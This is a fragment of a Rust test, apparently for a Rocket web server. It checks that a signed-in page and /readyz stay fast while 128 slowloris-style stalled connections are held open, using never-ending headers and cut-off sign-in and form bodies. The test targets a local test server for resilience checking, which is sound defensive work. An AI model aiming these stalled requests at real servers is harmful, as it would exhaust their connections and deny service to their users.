    let kinds: [(&str, String, &[u8]); 4] = [
        // Headers that never end.
        ("slow headers", "GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ".to_string(), b"a"),
        // A form body too short for Rocket's `_method` peek to finish.
        ("a body stalled before `_method`", form_head("/sign-in", &presession), b"_me"),
        // A form body stalled past the peek, for sign-in and for a signed-in form.
        ("a stalled sign-in body", form_head("/sign-in", &presession), b"_method=post&email=a"),
        ("a stalled signed-in body", form_head("/users/new", &session), b"name=x"),
    ];
    let mut stalled = Vec::new();
    for (kind, head, body) in &kinds {
        for _ in 0..32 {
            stalled.push(server.send(head, body).await);
        }
        rocket::tokio::time::sleep(Duration::from_millis(200)).await;
        let (status, took) = timed_page(&server, &session).await;
        assert_eq!(status, 200, "a signed-in page answers with 32 more sockets of {kind}");
        assert!(took < Duration::from_secs(1), "{kind}: the page took {took:?}");
        let started = Instant::now();
        let ready = server.exchange("GET", "/readyz", &[], "").await;
        assert_eq!(ready.status, 200, "/readyz with 32 more sockets of {kind}");
        assert!(started.elapsed() < Duration::from_secs(1), "{kind}: /readyz took {:?}", started.elapsed());
    }
    assert_eq!(stalled.len(), 128);
}
